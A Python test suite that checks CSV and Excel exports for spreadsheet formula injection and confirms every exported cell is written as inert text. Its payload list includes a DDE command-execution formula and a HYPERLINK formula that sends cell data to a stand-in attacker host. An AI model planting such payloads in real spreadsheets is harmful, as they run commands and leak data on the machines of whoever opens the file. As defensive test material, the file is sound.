"""No cell of a file that leaves the platform is a formula, and no name breaks the file."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from incidents.rule_checks import DAY
from incidents.rule_files import days_as_csv, wanted_from_csv
from incidents.rules import Row
from incidents.upstream import answer_table
from people import table_out, worker_files
from people.worker_files import UNWRITABLE, neutral, plain

FORMULAS = [
    "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x", "'=1",
    "==1", '=HYPERLINK("http://evil.example?"&A1,"x")', "=\u202e1", "=1\x00".rstrip("\x00"), "@\x1b[2J", "=1\n=2",
]  # fmt: skip
DANGEROUS = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")
cells = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=12)


def as_table(values: list[str]) -> dict[str, list[str]]:
    return {"name": values, "other": values}


def from_csv(made: bytes) -> list[str]:
    return [cell for row in list(csv.reader(io.StringIO(made.decode("utf-8-sig"), newline="")))[1:] for cell in row]


def from_xlsx(made: bytes) -> list[str]:
    sheet = load_workbook(io.BytesIO(made)).active
    assert sheet is not None
    found = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert all(cell.data_type == "s" for cell in found), "a formula, a number or a date"
    assert all(cell.hyperlink is None for cell in found)
    return [str(cell.value) for cell in found]


WRITERS: dict[str, Callable[[list[str]], list[str]]] = {
    "tables as CSV": lambda values: from_csv(table_out.as_csv(as_table(values))),
    "tables as Excel": lambda values: from_xlsx(table_out.as_xlsx(as_table(values), sheet="x")),
    "staff as CSV": lambda values: from_csv(worker_files.as_csv([[value] * 3 for value in values], "en")),
    "staff as Excel": lambda values: from_xlsx(worker_files.as_xlsx([[value] * 3 for value in values], "zh")),
}


@pytest.mark.parametrize("name", sorted(WRITERS))
def test_no_cell_is_a_formula(name: str) -> None:
    written = WRITERS[name](FORMULAS)
    assert len(written) >= len(FORMULAS)
    assert [cell for cell in written if DANGEROUS.match(cell)] == []


@settings(max_examples=25)
@given(cells)
@example("\x0b")
@example("_x000D_")
def test_any_cell_is_written_as_text(value: str) -> None:
    for write in WRITERS.values():
        for cell in write([value, "x"]):
            assert not DANGEROUS.match(cell)


@given(cells)
def test_what_was_shielded_comes_back(value: str) -> None:
    value = UNWRITABLE.sub("", value).strip()
    assert plain(neutral(value)) == value or value.startswith("'")
    assert not DANGEROUS.match(neutral(value))


def test_a_day_of_a_calendar_is_no_formula() -> None:
    named = enumerate(FORMULAS, 1)
    rules = {(DAY, f"cn|2026-01-{n:02d}"): Row({"kind": "off", "name": name}) for n, name in named}
    written = list(csv.reader(io.StringIO(days_as_csv(rules, "cn"), newline="")))[1:]
    assert len(written) == len(FORMULAS)
    assert [cell for row in written for cell in row if DANGEROUS.match(cell)] == []
    assert wanted_from_csv(days_as_csv(rules, "cn"), calendar="cn")
    assert answer_table([], "en")
